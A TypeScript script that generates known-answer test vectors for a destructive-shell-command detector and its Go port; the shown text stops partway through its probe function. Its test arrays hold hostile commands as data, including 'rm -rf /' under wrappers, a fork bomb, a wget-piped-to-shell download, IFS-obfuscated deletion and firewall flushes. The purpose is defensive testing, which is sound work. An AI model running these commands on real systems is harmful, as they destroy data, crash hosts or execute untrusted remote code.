/**
 * Writes protocol/vectors/destructive.json: known answers of the desktop's destructive check
 * (protocol/destructive.ts, `destructivePattern`) for its Go port (agent/internal/policy/destructive.go), so
 * both flag the same argvs. Each entry is `{ argv, flagged, rule? }`: whether destructivePattern flags argv, and the
 * pattern name it returns when it does. One entry per line, to keep diffs readable.
 *
 * The corpus: every case of the destructivePattern tests in test/unit/dag-compiler.test.ts and of
 * agent/internal/policy/destructive_cases_test.go, a few cases per pattern (flagged and not), the depth and work
 * budget limits, probes that try every word of the check's sets and every option branch alone (with near misses,
 * and the spots where JavaScript's regexes and a naive port part: `.` and line terminators, /i and non-ASCII
 * letters, \s beyond the space), then argvs sampled with a fixed seed from the grammars of
 * test/unit/destructive-property.test.ts (effectful commands under wrappers and interpreters, and the harmless
 * control) and from two grammars of its own that put random options and operands to every command the check knows,
 * bare and inside shell scripts. fast-check is pinned in package.json; a new version may sample differently, which
 * the unit test reports as a stale file (regenerate, and the Go test says whether the port still agrees).
 *
 *   npx tsx protocol/vectors/generate-destructive-vectors.ts           # rewrite the file
 *   npx tsx protocol/vectors/generate-destructive-vectors.ts --check   # exit 1 if the file is out of date
 *
 * test/unit/destructive-vectors.test.ts checks the committed file equals what this produces;
 * agent/internal/policy/destructive_vectors_test.go requires the Go port to give the same answers.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import fc from 'fast-check';
import { effectful, executing, harmless, joined, passThrough, wrapped } from './argv-grammar';
import { DESTRUCTIVE_CASES, NOT_DESTRUCTIVE_CASES } from './destructive-cases';
import { destructivePattern } from '../destructive';

export const DESTRUCTIVE_VECTORS_PATH = join(dirname(fileURLToPath(import.meta.url)), 'destructive.json');

export interface DestructiveVector {
  argv: string[];
  flagged: boolean;
  /** The pattern name destructivePattern returned, when flagged. */
  rule?: string;
}

type Argv = string[];

const SEED = 20_260_101;

// --- Cases the DAG compiler's tests assert (destructive-cases.ts). ---------------------------------------------

const DAG_COMPILER_POSITIVE: Argv[] = DESTRUCTIVE_CASES.map(([argv]) => argv);
const DAG_COMPILER_NEGATIVE: Argv[] = NOT_DESTRUCTIVE_CASES;

/** The argvs of dag-compiler.test.ts's depth, budget and wrapper tests, and a budget case small enough to store. */
function limitCases(): Argv[] {
  let script = 'rm -rf /';
  for (let i = 0; i < 12; i++) script = `sh -c ${JSON.stringify(script)}`;
  // Each `su` scans every later argument as a script again (memoisation covers command starts, not that scan):
  // 1,000 of them in front of a 6 kB script are far past the work budget in a few kilobytes of argv.
  const wide = `echo ${'a '.repeat(3000)}`;
  return [
    ['sh', '-c', script],
    ['sh', '-c', 'sh -c "sh -c \\"rm -rf /\\""'],
    [...Array.from({ length: 250 }, () => 'sudo'), 'rm', '-rf', '/'],
    Array.from({ length: 256 }, () => 'sudo'),
    [...Array.from({ length: 1000 }, () => 'su'), wide],
    ['su', wide],
  ];
}

// --- Cases of agent/internal/policy/destructive_cases_test.go not already above (from before 5a7bce7). ----------

const GO_CASES: Argv[] = [
  ['rm', '-rf', '/tmp/x'],
  ['sh', '-c', 'FOO=1 /bin/rm -rf x'],
  ['systemctl', 'restart', 'nginx'],
  ['chmod', '-R', '755', '/srv/app'],
  ['chmod', '777', '/'],
  ['chown', '-R', 'app:app', '/srv/app'],
  ['tee', '/tmp/out.txt'],
  ['docker', 'rm', 'web'],
  ['rm', 'file.txt'],
  ['rm', '-i', 'file.txt'],
  ['rm', '--', '-rf'],
];

// --- A few cases per pattern, flagged and not, where the cases above leave a branch untried. --------------------

const PATTERN_CASES: Argv[] = [
  ['rm', '--no-preserve-root', '/'],
  ['rm', '--n', 'x'],
  ['rm', '--', '--force'],
  ['mke2fs', '/dev/sdb1'],
  ['mkswap', '/dev/sdb2'],
  ['systemctl', 'isolate', 'rescue.target'],
  ['systemctl', 'kexec'],
  ['systemctl', 'daemon-reload'],
  ['systemctl', 'list-units'],
  ['gdisk', '-l', '/dev/sda'],
  ['gdisk', '/dev/sda'],
  ['cfdisk', '--help'],
  ['cgdisk', '/dev/sda'],
  ['sgdisk', '-p', '-b', 'backup.gpt', '/dev/sda'],
  ['sfdisk', '-l', '-q'],
  ['fdisk', '-u', '-l'],
  ['fdisk', '-u'],
  ['parted', '/dev/sda', 'unit', 'MiB', 'print', 'free'],
  ['parted', '/dev/sda'],
  ['parted', '-l', '-m'],
  ['parted', '-l', '-a', 'optimal'],
  ['parted', '/dev/sda', 'rm', '1'],
  ['psql', '-c', 'DROP SCHEMA app CASCADE'],
  ['psql', '-c', 'drop temporary table t'],
  ['mysql', '-e', 'DELETE FROM users'],
  ['mysql', '-e', 'DELETE FROM users -- WHERE id = 1'],
  ['psql', '-c', 'TRUNCATE TABLE ONLY "users"'],
  ['psql', '-c', 'select truncate(1.5)'],
  ['dropdb', 'prod'],
  ['mysqladmin', '-u', 'root', 'DROP', 'prod'],
  ['mysqladmin', 'status'],
  ['oc', 'delete', 'project', 'x'],
  ['podman', 'rmi', '-f', 'img'],
  ['nerdctl', 'volume', 'prune'],
  ['docker', 'image', 'remove', '--force', 'x'],
  ['docker', 'run', '--rm', 'alpine', 'reboot'],
  ['kubectl', 'exec', 'web', '--', 'rm', '-rf', '/data'],
  ['chmod', '-R', '0777', 'app'],
  ['chmod', '-R', 'ugo=rwx', 'app'],
  ['chmod', '--reference=/etc/hosts', 'x'],
  ['chmod', '-R', 'u+x', '/usr/./'],
  ['chmod', '-R', 'g-w', '/tmp/../'],
  ['chgrp', '-R', 'wheel', '/etc'],
  ['chown', '--reference=a', 'b'],
  ['chown', '-h'],
  ['setfacl', '-m', 'u:bob:rwx', '/srv'],
  ['chattr', '+i', '/etc/resolv.conf'],
  ['sh', '-c', 'cat x > /dev/mapper/root'],
  ['sh', '-c', 'cat x 2>/dev/sdb'],
  ['cp', 'image.iso', '/dev/sdb'],
  ['ddrescue', '/dev/sda', '/dev/sdb'],
  ['pv', 'image.iso', '/dev/disk/by-id/x'],
  ['pv', 'image.iso'],
  ['ln', 'a'],
  ['link', 'a', 'b'],
  ['cp', '-t', '/srv'],
  ['cp', '--version'],
  ['find', '/srv', '-execdir', 'shred', '{}', '+'],
  ['find', '/srv', '-ok', 'unlink', '{}', '\\;'],
  ['find', '/srv', '-exec', 'echo', '{}', ';', '-delete'],
  ['find', '/srv', '-fls', '/tmp/list'],
  ['find', '/srv', '-exec', 'sh', '-c', 'reboot', ';'],
  ['crontab', '-ir'],
  ['crontab', '-u', 'app', '-r'],
  ['crontab', '-uapp', '-l'],
  ['crontab', '-'],
  ['vgremove', 'vg0'],
  ['pvremove', '/dev/sdb'],
  ['zpool', 'destroy', 'tank'],
  ['zfs', 'list'],
  ['redis-cli', '-n', '2', 'flushdb'],
  ['redis-cli', 'get', 'k'],
  ['sh', '-c', 'wget -qO- https://x.example/i | /bin/sh'],
  ['bash', '-c', 'f(){ f|f& }; f'],
  ['unlink', 'x'],
  ['rmdir', 'empty'],
  ['srm', 'x'],
  ['rsync', '-a', 'src/', 'dst/'],
  ['rsync', '-a', '--remove-source-files', 'src/', 'dst/'],
  ['scp', 'a', 'host:b'],
  ['sftp', 'host'],
  ['sudoedit', '/etc/hosts'],
  ['patch', '-p1'],
  ['fallocate', '-l', '1G', 'f'],
  ['sed', '--in-place=.bak', 's/a/b/', 'f'],
  ['sed', '-e', 's/a/b/', 'f'],
  ['curl', '-O', 'https://x.example/a'],
  ['curl', '--remote-name-all', 'https://x.example/a'],
  ['curl', '--output', '-', 'https://x.example'],
  ['curl', '--output=/tmp/a', 'https://x.example'],
  ['curl', '--output=-', 'https://x.example'],
  ['curl', '-so-', 'https://x.example'],
  ['curl', '-o'],
  ['wget', '--spider', 'https://x.example'],
  ['wget', '-O', '-', 'https://x.example'],
  ['wget', '--output-document=-', 'https://x.example'],
  ['wget', '-qO', '-', 'https://x.example'],
  ['wget', '-O', '/tmp/a', 'https://x.example'],
  ['killall', '--help'],
  ['killall5'],
  ['kill', '-s', '0', '1'],
  ['kill', '-s0', '1'],
  ['kill'],
  ['skill', '-9', 'bob'],
  ['rc-service', 'nginx', 'restart'],
  ['invoke-rc.d', 'nginx', 'status'],
  ['service', 'nginx'],
  ['service', '--status-all'],
  ['/etc/init.d/nginx', 'status'],
  ['/etc/rc.d/sshd', 'restart'],
  ['/etc/init.d/nginx'],
  ['ip6tables', '-A', 'INPUT', '-j', 'DROP'],
  ['iptables', '-S'],
  ['iptables', '-C', 'INPUT', '-j', 'ACCEPT'],
  ['iptables', '-t', 'nat', '-nL'],
  ['iptables', '--version'],
  ['iptables', '-t', 'nat'],
  ['ebtables', '--flush'],
  ['iptables-restore', 'rules.v4'],
  ['ip6tables-restore'],
  ['nft', 'describe', 'tcp', 'dport'],
  ['nft', '-f', 'rules.nft'],
  ['nft', '-i'],
  ['nft', '--version'],
  ['nft', 'add', 'table', 'inet', 'x'],
  ['ufw'],
  ['ufw', 'app', 'list'],
  ['ufw', 'allow', '22'],
  ['firewall-cmd', '--list-all'],
  ['firewall-cmd', '--add-port=80/tcp'],
  ['firewall-cmd', '--reload'],
  ['useradd', '--help'],
  ['visudo', '-c'],
  ['visudo'],
  ['groupadd', 'ops'],
  ['chpasswd'],
  ['passwd', '--status', 'root'],
  ['chage', '-l', 'root'],
  ['chage', '-M', '90', 'root'],
  ['apt', 'install', 'nginx'],
  ['yum', 'info', 'nginx'],
  ['dnf', 'upgrade'],
  ['apk', 'add', 'curl'],
  ['pip', 'install', 'requests'],
  ['pip3', 'list'],
  ['snap', 'refresh'],
  ['zypper', 'in', 'vim'],
  ['dpkg', '-i', 'x.deb'],
  ['dpkg', '-l'],
  ['dpkg', '--purge', 'x'],
  ['rpm', '-qa'],
  ['rpm', '-Uvh', 'x.rpm'],
  ['rpm', '--erase', 'x'],
  ['pacman', '-Syu'],
  ['pacman', '-Q'],
  ['pacman', '--remove', 'x'],
  ['umount'],
  ['swapon', '--show'],
  ['swapon', '-a'],
  ['swapoff', '-a'],
  ['losetup', '-a'],
  ['losetup', '-f', 'disk.img'],
  ['mount', '-t', 'ext4'],
  ['mount', '-a'],
  ['mount', '-oremount,rw'],
  ['mount', '--bind'],
  ['mount', '/dev/sdb1', '/mnt'],
  ['sysctl', '-a'],
  ['sysctl', '-p'],
  ['sysctl', '--system'],
  ['sysctl', 'vm.swappiness=10'],
  ['ip', 'route', 'flush', 'cache'],
  ['ip', 'addr', 'add', '10.0.0.1/24', 'dev', 'eth0'],
  ['ip', 'netns', 'exec', 'blue', 'rm', '-rf', '/'],
  ['ip', 'netns', 'exec', 'blue', 'ls'],
  ['ifdown', 'eth0'],
  ['ifup', 'eth0'],
  ['ifconfig'],
  ['ifconfig', 'eth0'],
  ['ifconfig', 'eth0', 'down'],
  ['nmcli', 'con', 'show'],
  ['nmcli', 'con', 'down', 'x'],
  ['nmcli', 'radio', 'wifi', 'off'],
  ['python3', '-c', 'open("/etc/x", "w").write("y")'],
  ['python3', '-c', 'import os; os.remove("x")'],
  ['python3', '-c', 'import subprocess'],
  ['python3', '-c', 'print(open("/etc/hosts").read())'],
  ['python3', '-c', 'import sys; sys.stderr.write("no")'],
  ['python3', 'job.py'],
  ['python3', '-m', 'http.server'],
  ['perl', '-ne', 'print if /x/', 'f'],
  ['perl', '-e', 'open(F, ">/etc/x")'],
  ['perl', '-e', 'print `id`'],
  ['ruby', '-e', 'File.delete("x")'],
  ['ruby', '-i', '-pe', 'x', 'f'],
  ['node', '-e', 'require("fs").rmSync("/srv", { recursive: true })'],
  ['node', '-e', 'console.log(1)'],
  ['node', '--eval', 'process.kill(1)'],
  ['node', 'server.js'],
  ['deno', 'eval', 'Deno.run({ cmd: ["ls"] })'],
  ['php', '-r', 'shell_exec("ls");'],
  ['lua', '-e', 'os.execute("ls")'],
  ['awk', '-f', 'prog.awk', 'f'],
  ['gawk', '{ print $1 > "/tmp/out" }', 'f'],
  ['awk', 'BEGIN { "date" | getline d; print d }'],
  ['awk', 'BEGIN { close("x") }'],
  ['mawk', '{ printf "%s\\n", $1 }'],
  ['awk', '-F,', '-v', 'OFS=;', '{ print $1, $2 }', 'data.csv'],
  ['sh', '-c', 'ls >/dev/stderr'],
  ['sh', '-c', 'ls >&2'],
  ['sh', '-c', 'exec 3>&-'],
  ['sh', '-c', 'ls &> out.log'],
  ['sh', '-c', 'ls >| out.log'],
  ['sh', '-c', 'cat <<EOF\nx\nEOF'],
  ['sh', '-c', 'cat <<< "x"'],
  ['sh', '-c', 'cat <> f'],
  ['sh', '-c', 'ls 2>/dev/fd/2'],
  ['sh', '-c', 'echo `reboot`'],
  ['sh', '-c', 'echo $(ls) # ; reboot'],
  ['sh', '-c', 'x=1 y=2 reboot'],
  ['sh', '-c', '! reboot'],
  ['sh', '-c', 'rm${IFS}-rf${IFS}/'],
  ['sh', '-c', 'rm$IFS-rf /'],
  ['sh', '-c', 'r\\m -rf /'],
  ['sh', '-c', 'ls \\\n; reboot'],
  ['sh', '/tmp/run.sh', '-c'],
  ['sh', '-o', 'pipefail', '-c', 'ls | wc -l'],
  ['zsh', '-c', 'ls'],
  ['pwsh', '-Command', 'Remove-Item x'],
  ['fish', '-c', 'rm -rf /srv'],
  ['bash', '--login', '-c', 'ls'],
  ['env', '-S', 'ls -la'],
  ['env', '--split-string=rm -rf /'],
  ['env', '-iS', 'rm -rf /'],
  ['env', '-iSrm -rf /'],
  ['env', '-u', 'HOME', 'ls'],
  ['env'],
  ['watch', '-n', '5', 'rm -rf /tmp/x'],
  ['watch', 'ls'],
  ['su', '-c', 'ls', 'root'],
  ['su', '-', 'root', '-c', 'reboot'],
  ['runuser', '-u', 'app', '--', 'rm', '-rf', '/srv'],
  ['sg', 'wheel', 'reboot'],
  ['script', '-c', 'reboot', '/dev/null'],
  ['ssh', 'web1', 'ls', '/srv'],
  ['ssh', 'web1', '/sbin/reboot'],
  ['parallel', 'rm -rf', ':::', 'a', 'b'],
  ['eval', 'rm -rf /'],
  ['systemd-run', '--scope', 'reboot'],
  ['pkexec', 'reboot'],
  ['setpriv', '--reuid=0', 'userdel', 'x'],
  ['capsh', '--', '-c', 'reboot'],
  ['flock', '/run/lock/x', 'rm', '-rf', '/srv'],
  ['strace', '-f', 'rm', 'x'],
  ['valgrind', 'ls'],
  ['start-stop-daemon', '--start', '--exec', '/usr/sbin/reboot'],
  ['busybox', 'rm', '-rf', '/'],
  ['busybox', 'ls'],
  ['time', 'reboot'],
  ['sudo', '/srv/app/reboot'],
  ['sudo', './reboot'],
  ['sudo', '../bin/reboot'],
  ['sudo', '/usr/local/libexec/x/reboot'],
  ['sudo', '-u', 'kill'],
  ['nice', 'ls', '/sbin/reboot'],
  ['nice', '/etc/init.d/nginx', 'restart'],
  ['/lib/ld-linux.so.2', '/bin/ls'],
  ['ld.so', 'reboot'],
  ['xargs', '-0', 'ls'],
  ['docker', 'compose', 'down'],
  ['docker', 'exec', 'web', 'cat', '/etc/passwd'],
  ['git', 'clean', '-fdx'],
  ['touch', '/etc/nologin'],
  ['mkdir', '-p', '/srv/app'],
  ['echo', 'hello'],
  ['cat', '/etc/passwd'],
  ['ls', '-la', '/root'],
  ['journalctl', '-u', 'nginx', '-n', '50'],
  ['grep', '-r', 'kill', '/srv'],
  ['sqlite3', 'app.db', 'SELECT 1'],
  [''],
  ['-'],
  ['/'],
  ['rm'],
];

// --- Probes: every word of the check's sets and every option branch, each tried alone (and near misses). -------

const WRAPPER_NAMES = [
  'sudo', 'doas', 'env', 'nohup', 'nice', 'ionice', 'timeout', 'stdbuf', 'chroot', 'xargs', 'exec', 'command', 'builtin', 'busybox',
  'setsid', 'flock', 'time', 'strace', 'ltrace', 'unbuffer', 'chrt', 'taskset', 'runuser', 'su', 'watch', 'eval', 'ssh', 'script',
  'systemd-run', 'nsenter', 'unshare', 'firejail', 'torsocks', 'proxychains', 'parallel', 'caffeinate', 'fakeroot', 'sg', 'catchsegv',
  'pkexec', 'setpriv', 'capsh', 'numactl', 'cgexec', 'prlimit', 'sshpass', 'gosu', 'su-exec', 'tini', 'dumb-init', 'chpst',
  'eatmydata', 'nocache', 'faketime', 'trickle', 'cpulimit', 'ip', 'start-stop-daemon', 'valgrind', 'sudoedit', 'docker', 'podman',
  'nerdctl', 'kubectl', 'oc', 'ld.so', 'ld-linux-x86-64.so.2', '/lib/ld-linux-aarch64.so.1', 'ld-2.31.so', 'notawrapper',
];
const SHELL_NAMES = ['sh', 'bash', 'dash', 'zsh', 'ksh', 'mksh', 'ash', 'rbash', 'yash', 'fish', 'csh', 'tcsh', 'pwsh', 'powershell', 'shx'];
const INTERPRETER_NAMES = ['python', 'python3', 'python3.12', 'pypy3', 'perl', 'perl5.36', 'ruby', 'ruby3.2', 'node', 'nodejs', 'deno', 'bun',
  'php', 'php8.2', 'lua', 'lua5.4', 'luajit', 'tclsh', 'tclsh8.6', 'awk', 'gawk', 'mawk', 'nawk', 'osascript', 'pythonx', 'rubyist'];
const SYSTEMCTL_VERBS = ['start', 'stop', 'restart', 'reload', 'try-restart', 'reload-or-restart', 'try-reload-or-restart', 'condrestart',
  'force-reload', 'enable', 'disable', 'reenable', 'mask', 'unmask', 'kill', 'clean', 'freeze', 'thaw', 'isolate', 'set-default',
  'daemon-reload', 'daemon-reexec', 'link', 'preset', 'preset-all', 'revert', 'edit', 'set-property', 'set-environment',
  'unset-environment', 'import-environment', 'reset-failed', 'switch-root', 'suspend', 'hibernate', 'hybrid-sleep',
  'suspend-then-hibernate', 'add-wants', 'add-requires', 'bind', 'mount-image', 'poweroff', 'reboot', 'halt', 'kexec', 'soft-reboot',
  'rescue', 'emergency', 'reboot.target', 'emergency.target', 'default.target', 'status', 'show', 'cat', 'list-units', 'list-timers',
  'is-active', 'is-enabled', 'is-failed', 'help', 'get-default'];
const PACKAGE_MANAGERS = ['apt', 'apt-get', 'aptitude', 'yum', 'dnf', 'zypper', 'apk', 'snap', 'pip', 'pip3'];
const PACKAGE_WORDS = ['install', 'reinstall', 'remove', 'purge', 'autoremove', 'upgrade', 'full-upgrade', 'dist-upgrade', 'erase',
  'downgrade', 'update', 'add', 'del', 'uninstall', 'refresh', 'revert', 'build-dep', 'dup', 'patch', 'in', 'rm', 'up', 'list', 'search',
  'show', 'info', 'policy', 'freeze', 'check'];
const ACCOUNT_COMMANDS = ['userdel', 'useradd', 'usermod', 'groupadd', 'groupdel', 'groupmod', 'chpasswd', 'chgpasswd', 'deluser',
  'adduser', 'delgroup', 'addgroup', 'newusers', 'gpasswd', 'vipw', 'vigr', 'visudo'];
const FIREWALL_TABLES = ['iptables', 'ip6tables', 'iptables-legacy', 'ip6tables-legacy', 'iptables-nft', 'ip6tables-nft', 'ebtables', 'arptables'];
const IPTABLES_OPTIONS = ['-A', '-I', '-D', '-R', '-F', '-X', '-N', '-P', '-Z', '-E', '-Fv', '--append', '--insert', '--delete',
  '--replace', '--flush', '--delete-chain', '--new-chain', '--new', '--policy', '--zero', '--rename-chain', '-L', '-S', '-C', '-nL',
  '-vS', '--list', '--list-rules', '--check', '--help', '-h', '--version', '-V', '-t', '-n', '--line-numbers', '-a'];
const FIREWALL_CMD_OPTIONS = ['--add-service=http', '--remove-port=22/tcp', '--change-interface=eth0', '--set-default-zone=drop',
  '--reload', '--complete-reload', '--runtime-to-permanent', '--new-zone=x', '--delete-zone=x', '--lockdown-on', '--panic-on',
  '--load-zone-defaults=x', '--reset-to-defaults', '--direct', '--list-all', '--get-zones', '--state', '--query-port=22/tcp'];
const KILL_COMMANDS = ['kill', 'pkill', 'killall', 'killall5', 'skill', 'slay'];
const KILL_INFO = ['-l', '-L', '--list', '--table', '--help', '-V', '--version', '-9', '-0', '-s0', '-HUP', '-TERM'];
const IP_WORDS = ['add', 'del', 'delete', 'set', 'flush', 'change', 'replace', 'append', 'prepend', 'attach', 'detach', 'show', 'list',
  'get', 'monitor', 'a', 'd'];
const NMCLI_WORDS = ['down', 'up', 'delete', 'modify', 'disconnect', 'off', 'add', 'reload', 'show', 'status', 'on', 'list'];
const HARMLESS_TARGETS = ['/dev/null', '/dev/stdout', '/dev/stderr', '/dev/tty', '/dev/fd/2', '/dev/fd/12', '-', '/dev/fd/x',
  '/dev/ttyS0', '/dev/nulls', '/tmp/out', '/dev/sdb', '/dev/hda', '/dev/vdb', '/dev/xvda', '/dev/nvme0n1p1', '/dev/mmcblk0',
  '/dev/md0', '/dev/dm-0', '/dev/loop0', '/dev/mapper/vg-lv', '/dev/disk/by-uuid/x', '/dev/sd', '/dev/zero', '/dev/random'];
/** Interpreter code: each of the side-effect spellings, and near misses that must not count as one. */
const SIDE_EFFECT_CODE = [
  'system("x")', 'os.execv("x", [])', 'execSync("x")', 'os.popen("x")', 'os.popen2("x")', 'popen3x', 'spawnSync("x")',
  'child_process', 'import subprocess', 'os.fork()', 'shell_exec("x")', 'passthru("x")', 'proc_open("x")', 'qx(id)', 'syscall(1)',
  'os.unlink("x")', 'fs.unlinkSync("x")', 'os.remove("x")', 'os.removedirs("x")', 'shutil.rmtree("x")', 'os.rmdir("x")',
  'fs.rmSync("x")', 'FileUtils.rm_r("x")', 'FileUtils.rm_rf("x")', 'FileUtils.rm("x")', 'os.rename("a", "b")', 'fs.renameSync("a", "b")',
  'os.kill(1, 9)', 'os.killpg(1, 9)', 'os.chmod("x", 0)', 'os.chown("x", 0, 0)', 'os.truncate("x", 0)', 'os.symlink("a", "b")',
  'os.mkfifo("x")', 'fs.appendFileSync("x", "y")', 'fs.copyFileSync("a", "b")', 'shutil.copyfile("a", "b")', 'shutil.copytree("a", "b")',
  'fs.cpSync("a", "b")', 'os.replace("a", "b")', 'shutil.move("a", "b")', 'shutil.copy2("a", "b")', 'f.write("x")', 'fs.writeFileSync("x", "y")',
  'f.writelines(x)', 'syswrite(F, 1)', 'sys.stdout.write("x")', 'sys.stderr.write("x")', 'console.write("x")', 'STDOUT.write("x")',
  'STDERR.write("x")', 'mystdout.write("x")', 'rewrite()', 'overwrite()', 'write2()', 'writer', 'File.write("x", "y")', 'File.open("x")',
  'File.delete("x")', 'File.read("x")', 'eval("1")', '__import__("os")', 'importlib', 'ctypes', 'Deno.run({})', 'Deno.Command("x")',
  'Bun.spawn(["x"])', 'print `id`', 'open("x", "w")', 'open("x", "a")', 'open("x", "x")', 'open("x", "r+")', 'open("x", "r")',
  'open("x")', 'open(F, ">x")', 'open F, "| sh"', 'open(my $f, "+>x")', 'open(F, "<x")', 'systems', 'executor', 'forked', 'removed',
  'killer', 'prefork', 'rm', 'x.rm', 'rmx', 'print(1)', 'puts 1', 'console.log(1)',
];
const AWK_CODE = ['{ system("x") }', '{ system ("x") }', '{ print > "f" }', '{ print >> "f" }', '{ printf "%s", $1 > "f" }', '{ print | "sort" }',
  '{ "date" | getline d }', '{ print |& "x" }', '{ close("f") }', '{ print $1 }', '{ printf "%s\\n", $1 }', 'END { print NR }',
  '{ print; } { x = 1 > 2 }', '{ n = $1 > 5 }', '$1 > 5'];

function probeCases(): Argv[] {
  const out: Argv[] = [];
  for (const w of WRAPPER_NAMES) out.push([w, 'reboot'], [w, '-x', 'reboot'], [w, '/srv/reboot'], [w, 'x', 'rm -rf /']);
  for (const sh of SHELL_NAMES) out.push([sh, '-c', 'reboot'], [sh, 'reboot'], [sh, '-xc', 'ls'], [sh, '-Command', 'reboot']);
  for (const i of INTERPRETER_NAMES) {
    out.push([i, '-c', 'os.system("reboot")'], [i, 'reboot'], [i, '-e', 'x.unlink("y")'], [i, '-i', '-e', '1'], [i, '--eval', 'print("x")']);
  }
  for (const flag of ['-c', '-e', '-E', '-r', '-p', '-pe', '-ne', '-le', '--eval', '--eval=x', '--print', '--command', '--exec', 'eval',
    '-x', '-m', '--e', '-i', '-pi', '-i.bak', '--in-place']) {
    out.push(['perl', flag, 'unlink("x")'], ['node', flag, 'fs.writeFileSync("x")'], ['ruby', flag, 'puts 1']);
  }
  for (const code of SIDE_EFFECT_CODE) out.push(['python3', '-c', code], ['python3', code]);
  for (const code of AWK_CODE) out.push(['awk', code], ['gawk', '-f', 'x.awk', code], ['awk', '--file=x', code], ['awk', '-vx=1', code]);
  for (const v of SYSTEMCTL_VERBS) out.push(['systemctl', v, 'nginx']);
  for (const m of PACKAGE_MANAGERS) out.push([m, 'install', 'x'], [m, 'list']);
  for (const w of PACKAGE_WORDS) out.push(['apt-get', w, 'x']);
  for (const a of ['-i', '-r', '-P', '-l', '-L', '-s', '--install', '--remove', '--purge', '--configure', '--unpack', '--list', '-ir']) out.push(['dpkg', a, 'x']);
  for (const a of ['-e', '-i', '-U', '-F', '-ivh', '-Uvh', '-q', '-qa', '-V', '--erase', '--install', '--upgrade', '--freshen', '--query']) out.push(['rpm', a, 'x']);
  for (const a of ['-S', '-Syu', '-R', '-Rns', '-U', '-Q', '-Qi', '-F', '--sync', '--remove', '--upgrade', '--query']) out.push(['pacman', a, 'x']);
  for (const c of ACCOUNT_COMMANDS) out.push([c, 'bob'], [c, '--help'], [c, '-h'], [c, '-c'], [c], [c, '-h', 'x']);
  for (const a of [['-S', 'root'], ['--status', 'root'], ['-l', 'root'], ['--list', 'root'], ['-d', 'root'], []]) out.push(['passwd', ...a], ['chage', ...a]);
  for (const t of FIREWALL_TABLES) out.push([t, '-F'], [t, '-L']);
  for (const o of IPTABLES_OPTIONS) out.push(['iptables', o, 'INPUT']);
  for (const o of FIREWALL_CMD_OPTIONS) out.push(['firewall-cmd', o]);
  for (const a of [['list', 'ruleset'], ['describe', 'x'], ['monitor'], ['--help'], ['-h'], ['-v'], ['--version'], ['-f', 'x'], ['--file=x'],
    ['-cf', 'x'], ['-i'], ['--interactive'], ['flush', 'ruleset'], ['-a', 'list', 'ruleset'], ['-j', 'list', 'ruleset'], []]) {
    out.push(['nft', ...a]);
  }
  for (const a of [['status'], ['version'], ['show', 'added'], ['help'], ['app', 'list'], ['app', 'info', 'x'], ['--dry-run', 'status'],
    ['enable'], ['allow', '22'], ['reset'], []]) {
    out.push(['ufw', ...a]);
  }
  for (const c of KILL_COMMANDS) for (const a of KILL_INFO) out.push([c, a, '123']);
  out.push(['kill', '-s', '0', '1'], ['kill', '-s', 'KILL', '1'], ['kill', '1', '-0'], ['pkill', '-0', 'x'], ['kill']);
  for (const w of IP_WORDS) out.push(['ip', 'link', w, 'eth0']);
  for (const w of NMCLI_WORDS) out.push(['nmcli', 'con', w, 'x']);
  for (const a of [[], ['eth0'], ['-a'], ['eth0', 'up'], ['-s', 'eth0'], ['eth0', 'mtu', '9000']]) out.push(['ifconfig', ...a]);
  for (const a of [[], ['-a'], ['--all'], ['-t', 'ext4'], ['-l'], ['-oro'], ['-o', 'ro'], ['--bind'], ['--move'], ['--rbind'], ['/mnt'], ['-v', '-a']]) out.push(['mount', ...a]);
  for (const c of ['umount', 'swapoff', 'swapon', 'losetup']) {
    for (const a of [[], ['-a'], ['--show'], ['-s'], ['--summary'], ['-l'], ['--list'], ['--all'], ['-a', '-l'], ['--show', '-s'], ['/dev/sdb']]) out.push([c, ...a]);
  }
  for (const a of [['-a'], ['x'], ['x=1'], ['-w', 'x'], ['-p'], ['-wq'], ['-qp'], ['--write'], ['--load'], ['--load=x'], ['--system'], ['-n', 'x'], []]) out.push(['sysctl', ...a]);
  for (const t of HARMLESS_TARGETS) {
    out.push(['tee', t], ['tee', '-a', t], ['cp', 'x', t], ['dd', `of=${t}`], ['sh', '-c', `echo x > ${t}`], ['sh', '-c', `echo x >>${t}`], ['sh', '-c', `echo x &> ${t}`]);
  }
  for (const r of ['>&2', '2>&1', '>&-', '1>&2', '2>&-', '>&1x', '>& f', '>|f', '<>f', '<f', '<<EOF', '<<<x', '3>f', '>&', '&>f', '>>f', '2>>f', '>&/dev/null']) {
    out.push(['sh', '-c', `ls ${r}`]);
  }
  for (const a of [['-t', '/srv'], ['--target-directory=/srv'], ['--target-directory', '/srv'], ['-v'], ['--help'], ['-tv'], ['-'], []]) {
    for (const c of ['cp', 'mv', 'install', 'ln', 'link', 'pv', 'ddrescue']) out.push([c, ...a]);
  }
  for (const a of [['-l'], ['-u', 'app', '-l'], ['-uapp', '-l'], ['-u\napp', '-l'], ['-u'], ['-l', '-u', 'app'], ['-e'], ['-'], ['f'], ['-r'], ['-ri'],
    ['--r'], ['-i'], []]) {
    out.push(['crontab', ...a]);
  }
  for (const a of [['-i'], ['-i.bak'], ['-Ei'], ['-ni'], ['--in-place'], ['--in-place=.bak'], ['--in-placex'], ['-n'], ['-e', 'x'], ['--i'], ['-E']]) out.push(['sed', ...a, 's/a/b/', 'f']);
  for (const a of [['-o', 'f'], ['-o', '-'], ['-o'], ['-so', 'f'], ['-so-'], ['-sSo', '-'], ['-O'], ['-sO'], ['--output', 'f'], ['--output', '-'],
    ['--output'], ['--output=f'], ['--output=-'], ['--remote-name'], ['--remote-name-all'], ['-s'], ['-L', '-f'], ['-1'], ['--silent']]) {
    out.push(['curl', ...a, 'https://x.example']);
  }
  for (const a of [['--spider'], ['-O', '-'], ['-O-'], ['-qO-'], ['-qO', '-'], ['-O', 'f'], ['--output-document=-'], ['--output-document', '-'],
    ['--output-document=f'], ['-q'], ['-P', '/tmp'], ['-qO'], ['-qOx-']]) {
    out.push(['wget', ...a, 'https://x.example']);
  }
  for (const a of [['nginx', 'status'], ['nginx', 'stop'], ['nginx'], ['--status-all'], ['nginx', 'status', 'x'], ['-v', 'nginx', 'status'], []]) {
    for (const c of ['service', 'rc-service', 'invoke-rc.d']) out.push([c, ...a]);
  }
  for (const p of ['/etc/init.d/nginx', '/etc/rc.d/sshd', '/etc/init.dx/nginx', 'init.d/nginx', '/usr/etc/init.d/x']) {
    out.push([p, 'status'], [p, 'stop'], [p]);
  }
